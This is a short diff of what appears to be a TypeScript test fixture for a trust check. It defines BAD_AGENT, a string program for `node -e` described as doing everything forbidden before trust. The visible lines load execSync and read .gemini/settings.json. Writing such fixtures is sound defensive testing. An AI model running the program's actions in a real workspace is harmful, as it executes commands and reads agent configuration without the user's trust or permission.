@@ -1,6 +1,9 @@
 import { ORDINARY } from '../../tests/hostile-folder/trap.ts';
 
-/** A program that does all that is forbidden before trust, as `node -e` takes it: what finds nothing here finds nothing. */
+/**
+ * A program for `node -e` that does everything that is forbidden before trust. A check that finds nothing here is
+ * broken.
+ */
 export const BAD_AGENT = `
 const { execSync } = require('node:child_process');
 const settings = JSON.parse(fs.readFileSync('.gemini/settings.json', 'utf8'));
